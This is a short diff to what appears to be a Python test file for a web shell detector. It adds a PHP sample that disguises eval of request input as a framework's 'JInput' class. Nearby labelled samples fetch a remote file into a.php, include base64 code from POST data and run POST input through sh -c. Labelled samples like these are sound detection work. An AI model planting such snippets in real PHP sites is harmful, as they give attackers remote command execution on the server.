@@ -43,6 +43,8 @@ SHELLS = {
     "options of a download": "$c = curl_init('https://192.0.2.8/p'); $f = fopen('a.php', 'w'); "
     "curl_setopt_array($c, [CURLOPT_FILE => $f]);",
     "program in an address": "$q = fn($s) => include 'data://text/plain;base64,' . $s; $q($_POST['p']);",
+    "framework's word of its own making": "class JInput { function getCmd($n) { return $_REQUEST[$n]; } } "
+    f"$input = new JInput; {EVALUATE}($input->getCmd('a'));",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
